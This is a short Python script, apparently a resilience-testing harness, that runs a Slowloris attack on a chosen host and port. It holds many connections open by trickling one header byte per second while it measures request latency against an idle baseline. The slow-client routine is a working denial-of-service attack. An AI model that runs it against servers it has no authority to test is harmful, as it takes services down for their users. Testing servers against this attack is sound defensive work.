#!/usr/bin/env python3
"""Slowloris against HOST:PORT: COUNT connections each send a request line, then one header byte
per second, never finishing. Meanwhile a probe GETs PATH on a new connection every 20 ms and
prints the latencies (ms) of PROBES requests, first request included: p50, p99 and max.
With COUNT 0 it measures the same probe on the idle server (the baseline)."""
import socket
import sys
import threading
import time

host, port, count, path, probes = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], int(sys.argv[5])
stop = threading.Event()


def slow_clients():
    conns = []
    for _ in range(count):
        try:
            s = socket.create_connection((host, port))
            s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nX-Slow: ".encode())
            conns.append(s)
        except OSError:
            break
    while not stop.wait(1.0):
        for s in list(conns):
            try:
                s.sendall(b"a")
            except OSError:
                conns.remove(s)
    for s in conns:
        s.close()


def get_once():
    start = time.perf_counter()
    with socket.create_connection((host, port), timeout=10) as s:
        s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        while s.recv(65536):
            pass
    return (time.perf_counter() - start) * 1000.0


slow = threading.Thread(target=slow_clients)
slow.start()
if count:
    time.sleep(1.0)  # the slow connections are open and waiting
latencies = []
for _ in range(probes):
    latencies.append(get_once())
    time.sleep(0.02)
stop.set()
slow.join()
latencies.sort()
p = lambda q: latencies[min(len(latencies) - 1, int(len(latencies) * q))]
print(f"{p(0.5):.2f} {p(0.99):.2f} {latencies[-1]:.2f}")
